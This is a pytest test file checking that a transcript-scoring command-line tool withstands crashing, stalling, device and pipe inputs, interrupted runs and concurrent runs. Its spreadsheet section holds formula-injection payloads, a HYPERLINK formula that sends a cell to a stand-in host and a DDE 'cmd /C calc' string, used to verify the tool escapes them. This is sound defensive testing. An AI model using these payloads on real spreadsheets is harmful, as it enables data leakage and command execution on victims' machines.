"""A batch that no file can stop, stall or turn against its user (issue 9).

Each test is shaped like a case of the issue: one file that crashes a reader or the
tagger, one file that never finishes, a pipe or a device named as input, a long table, a
run stopped or failing half-way, a second run into the same folder, and cells that a
spreadsheet would run as formulas.
"""

from __future__ import annotations

import csv
import fcntl
import os
import re
import signal
import subprocess
import sys
import time
import zipfile
from pathlib import Path

import pandas as pd
import pytest
from click.testing import CliRunner
from hypothesis import given
from hypothesis import strategies as st

from mentalize_nlp.cli import main

SESSION = "T: How did that make you feel?\nC: Really hurt, I guess.\nT: Hurt.\nC: She never called.\n"
OTHER = "T: What was going on for you?\nC: I was furious with him.\n"
RUN_FAILED = 3


def run(*args):
    return CliRunner().invoke(main, [str(a) for a in args], catch_exceptions=False)


def errors(out: Path) -> pd.DataFrame:
    return pd.read_csv(out / "errors.csv", keep_default_na=False)


def utterances(out: Path) -> pd.DataFrame:
    return pd.read_csv(out / "utterances.csv", keep_default_na=False)


def folder_bytes(folder: Path) -> dict[str, bytes]:
    return {str(p.relative_to(folder)): p.read_bytes() for p in sorted(folder.rglob("*")) if p.is_file()}


def no_leftovers(out: Path) -> bool:
    return not list(out.parent.glob(f".{out.name}.*.part")) and not list(out.glob("**/*.part"))


# ------------------------------------------------------------------ one file never aborts the batch


def _docx_without_body(path: Path) -> None:
    with zipfile.ZipFile(path, "w") as z:
        z.writestr("[Content_Types].xml",
                   '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
                   '<Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" '
                   'ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>')
        z.writestr("_rels/.rels",
                   '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
                   '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
                   'officeDocument" Target="word/document.xml"/></Relationships>')
        z.writestr("word/document.xml",
                   '<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"/>')


@pytest.mark.parametrize("jobs", [1, 2])
def test_files_that_crash_a_reader_are_named_and_the_good_sessions_kept(tmp_path, jobs):
    """A whisper .json with a 5,000-digit number, a CSV turn of '²' or of 30 digits, a .docx
    with no body: each aborted the batch with a traceback and nothing written."""
    inputs = tmp_path / "in"
    inputs.mkdir()
    (inputs / "a-good.txt").write_text(SESSION, encoding="utf-8")
    (inputs / "bignum.json").write_text('{"segments": [{"speaker": "T", "text": "Hello.", "start": ' + "9" * 5000 + "}]}",
                                        encoding="utf-8")
    (inputs / "sup.csv").write_text("turn,speaker,text\n²,T,Hello\n1,C,I feel sad\n", encoding="utf-8")  # read: '²' is a turn label
    (inputs / "turn.csv").write_text("turn,speaker,text\n" + "9" * 30 + ",T,Hello\n1,C,I feel sad\n", encoding="utf-8")
    _docx_without_body(inputs / "nobody.docx")
    (inputs / "z-good.txt").write_text(OTHER, encoding="utf-8")
    before = folder_bytes(inputs)
    result = run("score", inputs, "--out", tmp_path / "out", "--jobs", jobs)
    assert result.exit_code == 1, result.output
    assert "Traceback" not in result.output
    assert list(pd.unique(utterances(tmp_path / "out")["session"])) == ["a-good", "sup", "z-good"]
    failed = errors(tmp_path / "out")
    assert sorted(Path(p).name for p in failed["file"]) == ["bignum.json", "nobody.docx", "turn.csv"]
    assert (failed["error"] != "").all()
    assert folder_bytes(inputs) == before


@pytest.mark.parametrize("jobs", [1, 2])
@pytest.mark.parametrize("error", [ValueError("bad literal"), RecursionError("maximum recursion depth exceeded"),
                                   KeyError("w:body"), zipfile.BadZipFile("File is not a zip file")])
def test_any_error_of_one_reader_is_that_files_failure(tmp_path, monkeypatch, jobs, error):
    import mentalize_nlp.batch as batch

    real = batch.read_transcript

    def reader(path, **kwargs):
        if Path(path).name == "bad.txt":
            raise error
        return real(path, **kwargs)

    monkeypatch.setattr(batch, "read_transcript", reader)  # workers are forked, and inherit it
    inputs, result = _score_a_bad_c(tmp_path, jobs)
    assert result.exit_code == 1, result.output
    line = next(l for l in result.stderr.splitlines() if l.startswith("error:"))
    assert "bad.txt" in line and type(error).__name__ in line and "Traceback" not in result.stderr
    assert list(errors(tmp_path / "out")["file"]) == [str(inputs / "bad.txt")]
    assert list(pd.unique(utterances(tmp_path / "out")["session"])) == ["a", "c"]


def _score_a_bad_c(tmp_path, jobs):
    """Score a folder of a.txt, bad.txt and c.txt into tmp_path/out; the input folder and the result."""
    inputs = tmp_path / "in"
    inputs.mkdir()
    for name, text in (("a.txt", SESSION), ("bad.txt", SESSION), ("c.txt", OTHER)):
        (inputs / name).write_text(text, encoding="utf-8")
    return inputs, run("score", inputs, "--out", tmp_path / "out", "--jobs", jobs)


@pytest.mark.parametrize("jobs", [1, 2])
def test_a_file_the_tagger_chokes_on_is_named_and_the_rest_tagged(tmp_path, monkeypatch, jobs):
    from mentalize_nlp.tagging import Tagger

    real = Tagger.tag_sessions

    def tag_sessions(self, sessions):
        if any(s.name == "bad" for s in sessions):
            raise IndexError("list index out of range")
        return real(self, sessions)

    monkeypatch.setattr(Tagger, "tag_sessions", tag_sessions)
    inputs, result = _score_a_bad_c(tmp_path, jobs)
    assert result.exit_code == 1, result.output
    failed = errors(tmp_path / "out")
    assert list(failed["file"]) == [str(inputs / "bad.txt")] and "could not be tagged (IndexError" in failed["error"].iat[0]
    assert list(pd.unique(utterances(tmp_path / "out")["session"])) == ["a", "c"]
    assert set(pd.read_csv(tmp_path / "out" / "profiles.csv")["session"]) == {"a", "c"}


def test_debug_shows_the_traceback_of_an_unexpected_error(tmp_path, monkeypatch):
    import mentalize_nlp.batch as batch

    def reader(path, **kwargs):
        raise KeyError("speaker")

    monkeypatch.setattr(batch, "read_transcript", reader)
    (tmp_path / "s.txt").write_text(SESSION, encoding="utf-8")
    plain = run("score", tmp_path / "s.txt", "--out", tmp_path / "a")
    assert plain.exit_code == 1 and "Traceback" not in plain.stderr and "--debug" in plain.stderr
    debug = run("score", tmp_path / "s.txt", "--out", tmp_path / "b", "--debug")
    assert debug.exit_code == 1
    assert "Traceback (most recent call last)" in debug.stderr
    assert "in reader" in debug.stderr  # the frame where it went wrong


def test_a_failed_run_exits_3_and_a_failed_input_1(tmp_path):
    """Exit 1 says "some inputs failed"; a run that fails as a whole (here: a broken model) says 3."""
    (tmp_path / "s.txt").write_text(SESSION, encoding="utf-8")
    broken = tmp_path / "model"
    broken.mkdir()
    (broken / "mentalize-classifier.json").write_text("{not json", encoding="utf-8")
    for jobs in (1, 2):
        result = run("score", tmp_path / "s.txt", "--out", tmp_path / f"out{jobs}", "--model", broken, "--jobs", jobs)
        assert result.exit_code == RUN_FAILED, result.output
        assert "Traceback" not in result.output
        assert not (tmp_path / f"out{jobs}").exists() and no_leftovers(tmp_path / f"out{jobs}")
    assert "3" in run("score", "--help").output.split("Exit status")[1]


# ------------------------------------------------------------------ no file stalls the batch


def _stall(_path, **_kwargs):
    re.match(r"(a+)+$", "a" * 64 + "b")  # pattern backtracking, as in the SRT reader of the issue: hours
    raise AssertionError("not reached")


@pytest.mark.parametrize("jobs", [1, 2])
def test_a_file_slower_than_the_timeout_is_named_and_the_batch_goes_on(tmp_path, monkeypatch, jobs):
    import mentalize_nlp.batch as batch

    real = batch.read_transcript
    monkeypatch.setattr(batch, "read_transcript", lambda path, **kw: _stall(path) if Path(path).name == "slow.srt" else real(path, **kw))
    inputs = tmp_path / "in"
    inputs.mkdir()
    (inputs / "a.txt").write_text(SESSION, encoding="utf-8")
    (inputs / "slow.srt").write_text("1\n00:00:01,000 --> 00:00:0\n" + "1" * 1500 + "\n", encoding="utf-8")
    (inputs / "c.txt").write_text(OTHER, encoding="utf-8")
    result = run("score", inputs, "--out", tmp_path / "out", "--jobs", jobs, "--timeout", "1")
    assert result.exit_code == 1, result.output
    failed = errors(tmp_path / "out")
    assert list(failed["file"]) == [str(inputs / "slow.srt")]
    assert failed["error"].iat[0] == "took longer than 1 s; raise --timeout or split the file."
    assert list(pd.unique(utterances(tmp_path / "out")["session"])) == ["a", "c"]


def test_a_file_slower_to_tag_than_the_timeout_is_named(tmp_path, monkeypatch, tagger):
    from mentalize_nlp.batch import score_inputs
    from mentalize_nlp.tagging import Tagger

    real = Tagger.tag_sessions

    def tag_sessions(self, sessions):
        if any(s.name == "slow" for s in sessions):
            _stall(None)
        return real(self, sessions)

    monkeypatch.setattr(Tagger, "tag_sessions", tag_sessions)
    for name, text in (("a.txt", SESSION), ("slow.txt", SESSION), ("c.txt", OTHER)):
        (tmp_path / name).write_text(text, encoding="utf-8")
    result = score_inputs([tmp_path / n for n in ("a.txt", "slow.txt", "c.txt")], tmp_path / "out", tagger, timeout=0.5)
    assert [(Path(f.path).name, f.message) for f in result.failures] == [
        ("slow.txt", "took longer than 0.5 s; raise --timeout or split the file.")]
    assert result.sessions == 2


# ------------------------------------------------------------------ memory: only regular files, long tables in slices


def test_a_fifo_or_a_device_named_as_input_is_refused_without_opening_it(tmp_path):
    """/dev/zero named as input crashed the run; a FIFO hung it."""
    fifo = tmp_path / "live.txt"
    os.mkfifo(fifo)
    (tmp_path / "s.txt").write_text(SESSION, encoding="utf-8")
    folder = tmp_path / "linked"
    folder.mkdir()
    os.symlink("/dev/zero", folder / "zero.txt")
    result = run("score", fifo, "/dev/zero", tmp_path / "s.txt", folder, "--out", tmp_path / "out", "--timeout", "5")
    assert result.exit_code == 1, result.output
    reasons = dict(zip(errors(tmp_path / "out")["file"], errors(tmp_path / "out")["error"]))
    assert "named pipe" in reasons[str(fifo)]
    assert "device" in reasons["/dev/zero"]
    assert "device" in reasons[str(folder / "zero.txt")]
    assert list(pd.unique(utterances(tmp_path / "out")["session"])) == ["s"]


def test_a_long_table_is_tagged_in_slices_and_profiled_as_a_whole(tmp_path, monkeypatch, tagger):
    """A 200,000-row CSV took 4.5 GB: one file was tagged in one pass."""
    import mentalize_nlp.batch as batch
    from mentalize_nlp.tagging import Tagger

    lines = [line.split(": ", 1) for line in (SESSION + OTHER).splitlines()]
    rows = pd.DataFrame([lines[k % len(lines)] for k in range(230)], columns=["speaker", "text"])
    rows.to_csv(tmp_path / "long.csv", index=False)
    whole = batch.score_inputs([tmp_path / "long.csv"], tmp_path / "whole", tagger)
    sizes = []
    real = Tagger.tag_sessions

    def spy(self, sessions):
        sizes.append(sum(len(s.utterances) for s in sessions))
        return real(self, sessions)

    monkeypatch.setattr(Tagger, "tag_sessions", spy)
    monkeypatch.setattr(batch, "SLICE", 50, raising=False)
    sliced = batch.score_inputs([tmp_path / "long.csv"], tmp_path / "sliced", tagger)
    assert sizes == [50, 50, 50, 50, 30]
    assert (sliced.sessions, sliced.utterances) == (whole.sessions, whole.utterances) == (1, 230)
    for name in ("utterances.csv", "profiles.csv"):
        pd.testing.assert_frame_equal(pd.read_csv(tmp_path / "sliced" / name), pd.read_csv(tmp_path / "whole" / name))


# ------------------------------------------------------------------ results replaced as a whole set


def _two_sets(tmp_path):
    first, second = tmp_path / "first", tmp_path / "second"
    first.mkdir()
    second.mkdir()
    (first / "s1.txt").write_text(SESSION, encoding="utf-8")
    (second / "s2.txt").write_text(OTHER, encoding="utf-8")
    return first, second


def test_a_run_that_fails_after_reading_leaves_the_old_set_intact(tmp_path, monkeypatch):
    """Interrupted --html left pages without an index; a --force re-run killed half-way left
    new profiles beside old utterances."""
    import mentalize_nlp.report as report

    first, second = _two_sets(tmp_path)
    out = tmp_path / "out"
    assert run("score", first, "--out", out, "--html").exit_code == 0
    before = folder_bytes(out)

    def half_a_report(out_dir, **kwargs):
        (Path(out_dir) / "report").mkdir(exist_ok=True)
        (Path(out_dir) / "report" / "s2.html").write_text("<p>half</p>", encoding="utf-8")
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(report, "write_reports", half_a_report)
    result = run("score", second, "--out", out, "--force", "--html")
    assert result.exit_code == RUN_FAILED, result.output
    assert "No space left on device" in result.output and "as it was" in result.output
    assert folder_bytes(out) == before
    assert no_leftovers(out)


def test_a_new_set_without_html_leaves_the_old_report_pages_behind_but_keeps_ones_own_notes(tmp_path):
    """Re-scoring without --html kept report pages that described the previous results."""
    first, second = _two_sets(tmp_path)
    out = tmp_path / "out"
    assert run("score", first, "--out", out, "--html").exit_code == 0
    assert (out / "report" / "s1.html").is_file()
    (out / "report" / "supervision-notes.txt").write_text("mine", encoding="utf-8")
    assert run("score", second, "--out", out, "--force").exit_code == 0
    assert sorted(p.name for p in (out / "report").iterdir()) == ["supervision-notes.txt"]
    assert (out / "report" / "supervision-notes.txt").read_text(encoding="utf-8") == "mine"
    (out / "report" / "supervision-notes.txt").unlink()
    assert run("score", first, "--out", out, "--force", "--html").exit_code == 0
    assert run("score", second, "--out", out, "--force").exit_code == 0
    assert not (out / "report").exists()  # nothing of one's own in it: no empty folder either


def test_a_second_run_into_the_same_folder_is_refused_at_once(tmp_path):
    first, _ = _two_sets(tmp_path)
    out = tmp_path / "out"
    with open(tmp_path / ".out.lock", "a+b") as held:  # as a run in another process holds it
        fcntl.flock(held.fileno(), fcntl.LOCK_EX | fcntl.LOCK_NB)
        for extra in ((), ("--force",)):
            result = run("score", first, "--out", out, *extra)
            assert result.exit_code == RUN_FAILED, result.output
            assert "being written by another mentalize run" in result.output
        assert not out.exists()
    assert run("score", first, "--out", out).exit_code == 0


def test_leftovers_of_an_interrupted_run_are_removed_by_the_next(tmp_path):
    first, _ = _two_sets(tmp_path)
    out = tmp_path / "out"
    assert run("score", first, "--out", out).exit_code == 0
    (tmp_path / ".out.k3j_x.part").mkdir()
    (tmp_path / ".out.k3j_x.part" / "utterances.csv").write_text("session,text\nold,transcript text\n", encoding="utf-8")
    (tmp_path / ".out.abc.part").write_text("transcript text", encoding="utf-8")
    (out / ".utterances.csv.q1w2.part").write_text("transcript text", encoding="utf-8")  # left by an earlier version
    (out / "my-notes.txt").write_text("mine", encoding="utf-8")
    assert run("score", first, "--out", out, "--force").exit_code == 0
    assert no_leftovers(out)
    assert (out / "my-notes.txt").read_text(encoding="utf-8") == "mine"  # what is not a result stays


def test_leftovers_of_a_killed_report_are_removed_by_the_next_report(tmp_path):
    first, _ = _two_sets(tmp_path)
    out = tmp_path / "out"
    assert run("score", first, "--out", out).exit_code == 0
    (out / ".report.k3j_x.part").mkdir()
    (out / ".report.k3j_x.part" / "page.html").write_text("transcript text", encoding="utf-8")
    assert run("report", out).exit_code == 0
    assert (out / "report" / "index.html").is_file() and not list(out.glob(".report.*.part"))


def _children(pid: int) -> set[int]:
    try:
        return {int(c) for c in Path(f"/proc/{pid}/task/{pid}/children").read_text().split()}
    except OSError:
        return set()


def _alive(pid: int) -> bool:
    try:
        status = Path(f"/proc/{pid}/status").read_text()
    except OSError:
        return False
    return "\nState:\tZ" not in status


def _sessions(folder: Path, count: int, repeat: int, *, distinct: bool = False) -> Path:
    """``count`` sessions of ``SESSION`` ``repeat`` times over; with ``distinct``, every line
    differs, so that none is tagged once for all (a repeated text is) and the run lasts."""
    folder.mkdir()
    for n in range(count):
        lines = SESSION * repeat
        if distinct:
            lines = "".join(f"{line} ({n}.{k})\n" for k, line in enumerate(lines.splitlines()))
        (folder / f"s{n:03d}.txt").write_text(lines, encoding="utf-8")
    return folder


def _two_workers(process: subprocess.Popen, workers: set[int], poll: float) -> None:
    """Add ``process``'s children to ``workers`` until it has two, failing if it ends first."""
    deadline = time.monotonic() + 120
    while time.monotonic() < deadline and process.poll() is None and len(workers) < 2:
        workers |= _children(process.pid)
        time.sleep(poll)
    assert len(workers) >= 2 and process.poll() is None, "the run ended before it could be stopped"


def _kill_left(workers: set[int]) -> None:
    for pid in workers:
        if _alive(pid):
            os.kill(pid, signal.SIGKILL)


@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="reads /proc")
def test_sigterm_ends_the_run_its_workers_and_its_temporary_folder(tmp_path):
    """SIGTERM to the parent with --jobs 2 left both workers running and a .part of transcript text."""
    inputs = _sessions(tmp_path / "in", 400, 20, distinct=True)
    first, _ = _two_sets(tmp_path)
    out = tmp_path / "out"
    assert run("score", first, "--out", out).exit_code == 0
    before = folder_bytes(out)
    workers: set[int] = set()
    with open(tmp_path / "stderr.txt", "wb") as log:
        process = subprocess.Popen([sys.executable, "-m", "mentalize_nlp", "score", str(inputs), "--out", str(out), "--force",
                                    "--jobs", "2"], stdout=subprocess.DEVNULL, stderr=log)
    try:
        _two_workers(process, workers, 0.2)
        time.sleep(1)
        process.send_signal(signal.SIGTERM)
        process.wait(timeout=60)
        time.sleep(0.5)
        survivors = [pid for pid in workers if _alive(pid)]
    finally:
        _kill_left(workers)
        if process.poll() is None:
            process.kill()
    assert process.returncode == RUN_FAILED, (tmp_path / "stderr.txt").read_text()
    assert "stopped before the end" in (tmp_path / "stderr.txt").read_text()
    assert not survivors
    assert no_leftovers(out)
    assert folder_bytes(out) == before


_HALF_SENT = """
import os, struct, time
from concurrent.futures import ProcessPoolExecutor
from mentalize_nlp.batch import _stop

def half_a_result():
    os.write(PIPE.fileno(), struct.pack("!i", 1000) + b"x" * 10)  # a result cut off after 10 of 1,000 bytes
    time.sleep(60)

if __name__ == "__main__":
    pool = ProcessPoolExecutor(1)
    PIPE = pool._result_queue._writer  # the forked worker inherits it
    pool.submit(half_a_result)
    time.sleep(2)
    _stop(pool)
"""


def test_a_run_stopped_while_a_worker_sends_its_result_still_ends(tmp_path):
    """SIGTERM with --jobs 2 hung now and then after the clean-up: a worker ended half-way
    through sending a result left the pool's manager thread waiting, and exit waited for it."""
    script = tmp_path / "half_sent.py"
    script.write_text(_HALF_SENT, encoding="utf-8")
    done = subprocess.run([sys.executable, str(script)], capture_output=True, text=True, timeout=60)
    assert done.returncode == 0, done.stderr


@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="reads /proc")
def test_the_report_workers_end_when_the_report_is_killed(tmp_path):
    """A killed `mentalize report` left its page-writing workers running on transcript text."""
    inputs = _sessions(tmp_path / "in", 240, 8)
    out = tmp_path / "out"
    assert run("score", inputs, "--out", out).exit_code == 0
    workers: set[int] = set()
    process = subprocess.Popen([sys.executable, "-m", "mentalize_nlp", "report", str(out)],
                               stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    try:
        _two_workers(process, workers, 0.05)
        process.kill()
        process.wait(timeout=60)
        deadline = time.monotonic() + 10
        while time.monotonic() < deadline and any(_alive(pid) for pid in workers):
            time.sleep(0.1)
        survivors = [pid for pid in workers if _alive(pid)]
    finally:
        _kill_left(workers)
    assert not survivors


# ------------------------------------------------------------------ cells a spreadsheet cannot run

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"[-+]?(?:\d+\.?\d*|\.\d+)(?:[eE][-+]?\d+)?")


def _runnable(folder: Path) -> list[tuple[str, str]]:
    """(file, cell) for every cell of the CSV outputs that a spreadsheet would run."""
    found = []
    for path in sorted(folder.glob("*.csv")):
        with open(path, encoding="utf-8", newline="") as handle:
            for row in csv.reader(handle):
                found += [(path.name, c) for c in row if c.startswith(TRIGGERS) and not NUMBER.fullmatch(c)]
    return found


HOSTILE = [
    ("=cmd", '=HYPERLINK("http://example.invalid/?x="&A1,"click")'),
    ("T", "+cmd|' /C calc'!A0"),
    ("C", "-2+3 and I feel sad"),
    ("@T", "@SUM(1+1)"),
    ("C", "\t=1+1"),
    ("T", "'=already quoted"),
    ("C", "I feel sad."),
]


def test_no_csv_cell_can_run_as_a_formula_and_the_text_reads_back_as_it_was(tmp_path, monkeypatch):
    """Utterances, speakers and file names such as =HYPERLINK(...) were written verbatim."""
    from mentalize_nlp.batch import raw_cells
    from mentalize_nlp.output import original_text_frame

    monkeypatch.chdir(tmp_path)
    frame = pd.DataFrame(HOSTILE, columns=["speaker", "text"])
    frame.insert(0, "turn", range(-1, len(frame) - 1))  # negative turns stay numbers
    frame.insert(0, "session", "=S")
    half = len(frame) // 2
    frame.iloc[:half].to_csv("a.csv", index=False)  # one session over two files and chunks: profiled from its rows
    frame.iloc[half:].to_csv("b.csv", index=False)
    Path("=HYPERLINK(x).txt").write_text("no speakers here\n", encoding="utf-8")
    result = run("score", "a.csv", "b.csv", "=HYPERLINK(x).txt", "--out", "out")
    assert result.exit_code == 1, result.output
    out = tmp_path / "out"
    assert _runnable(out) == []
    assert errors(out)["file"].iat[0] == "'=HYPERLINK(x).txt"
    table = utterances(out)
    assert list(table["turn"]) == list(range(-1, len(frame) - 1))
    assert not raw_cells(out)
    back = original_text_frame(pd.read_csv(out / "utterances.csv", dtype=str, keep_default_na=False))
    assert list(back["text"]) == [text for _, text in HOSTILE]
    assert list(back["speaker"]) == [speaker for speaker, _ in HOSTILE] and set(back["session"]) == {"=S"}
    profiles = original_text_frame(pd.read_csv(out / "profiles.csv", dtype=str, keep_default_na=False))
    assert set(profiles["session"]) == {"=S"}
    assert profiles["utterances"].astype(int).sum() == len(HOSTILE)  # the session was profiled once, whole

    raw = run("score", "a.csv", "b.csv", "--out", "raw", "--raw-cells")
    assert raw.exit_code == 0 and raw_cells(tmp_path / "raw")
    assert list(utterances(tmp_path / "raw")["text"]) == [text for _, text in HOSTILE]
    for fmt in ("parquet", "jsonl"):
        assert run("score", "a.csv", "b.csv", "--out", fmt, "--format", fmt).exit_code == 0
        loader = pd.read_parquet if fmt == "parquet" else (lambda p: pd.read_json(p, lines=True, dtype=False))
        assert list(loader(tmp_path / fmt / f"utterances.{fmt}")["text"]) == [text for _, text in HOSTILE]


@given(st.text(alphabet=st.sampled_from(["=", "+", "-", "@", "\t", "\r", "'", "1", ".", "e", "a", " "]), max_size=8))
def test_spreadsheet_safe_text_is_never_runnable_and_always_reversible(text):
    from mentalize_nlp.output import original_text, spreadsheet_safe

    safe = spreadsheet_safe(text)
    assert original_text(safe) == text
    assert not safe.startswith(TRIGGERS) or NUMBER.fullmatch(safe)
